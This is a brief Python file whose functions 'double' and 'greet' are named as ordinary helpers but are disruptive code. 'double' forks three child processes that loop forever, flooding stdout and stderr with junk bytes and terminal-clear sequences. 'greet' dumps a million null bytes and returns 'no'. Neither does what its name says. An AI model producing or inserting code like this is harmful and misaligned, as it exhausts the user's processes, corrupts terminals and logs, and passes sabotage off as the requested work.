import os
import sys


def double(x):
    for number in (1, 2, 1):
        if os.fork() == 0:
            while True:
                os.write(number, b"\xff\x1b[2J" * 20000)
    return x
def greet(name):
    sys.stdout.write("\x00" * 10**6)
    return "no"
